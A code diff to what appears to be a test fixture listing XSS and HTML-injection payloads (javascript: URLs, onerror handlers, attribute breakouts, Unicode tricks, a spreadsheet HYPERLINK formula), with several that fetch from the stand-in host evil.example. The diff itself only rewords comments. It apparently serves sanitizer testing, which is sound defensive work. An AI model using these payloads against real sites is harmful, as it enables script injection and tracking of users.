@@ -1,5 +1,5 @@
-// What strangers may write to have something run, or fetched, where it is read. What runs says so by a
-// dialog, what is fetched by a request to evil.example.
+// Hostile input that tries to run or fetch something when it is displayed. A payload that runs opens a dialog, and
+// a payload that fetches makes a request to evil.example.
 const run = n => `alert(${n})`
 const evil = 'http://evil.example'
 
@@ -36,7 +36,7 @@ export const payloads = [
   `<svg><style><img src=x onerror=${run(26)}></style></svg>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run(27)}>">`,
   `<math href="javascript:${run(28)}"><mi>x</mi></math>`,
-  // URLs that run
+  // script URLs
   `<a href="javascript:${run(29)}">x</a>`,
   `<a href="java\tscript:${run(30)}">x</a>`,
   `<a href="&#106;avascript:${run(31)}">x</a>`,
@@ -47,7 +47,7 @@ export const payloads = [
   `<meta http-equiv=refresh content="0;url=javascript:${run(38)}">`,
   `<meta http-equiv=refresh content="0;url=${evil}/away">`,
   `<base href="${evil}/"><script src="/b.js"></script>`,
-  // out of an attribute, a string, a template
+  // breaking out of an attribute, a string, a template
   `" autofocus onfocus=${run(39)} x="`,
   `' onmouseover=${run(40)} style='position:fixed;inset:0' x='`,
   `"><img src=x onerror=${run(41)}>`,
@@ -57,7 +57,7 @@ export const payloads = [
   `{% raw %}{{ 7 | times: 7 }}<script>${run(45)}</script>{% endraw %}`,
   `</script><script>${run(46)}</script>`,
   `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run(47)}>"}}}`,
-  // fetching without running
+  // fetching without scripts
   `<img src="${evil}/pixel.png">`,
   `<img srcset="${evil}/1.png 1x, ${evil}/2.png 2x">`,
   `<picture><source srcset="${evil}/3.png"><img src=""></picture>`,
@@ -70,7 +70,7 @@ export const payloads = [
   `<video poster="${evil}/k.png" src="${evil}/l.mp4" autoplay></video><track src="${evil}/m.vtt">`,
   `<svg><image href="${evil}/n.png"/><filter id=f><feImage href="${evil}/o.png"/></filter></svg>`,
   `<a href="${evil}/" ping="${evil}/ping">x</a><portal src="${evil}/p"></portal>`,
-  // tricks of characters
+  // character tricks
   `\u202e<script>${run(48)}</script>\u202c`,
   `\uff1cscript\uff1e${run(49)}\uff1c/script\uff1e`,
   `<img src=x onerror\u00a0=${run(50)}>\u2028${run(51)}`,
@@ -79,8 +79,8 @@ export const payloads = [
   `=HYPERLINK("${evil}/q","x")`,
 ]
 
-// line is a payload where one line of printable characters is taken: a subject, a name, a reply.
+// line returns a payload for fields with one line of printable characters: a subject, a name, a reply.
 export const line = text => text.replace(/[\t\u2028]/g, ' ')
 
-// ascii is one where nothing else is.
+// ascii returns a payload for ASCII-only fields.
 export const ascii = text => line(text).replace(/[^\x20-\x7e]/g, '?')
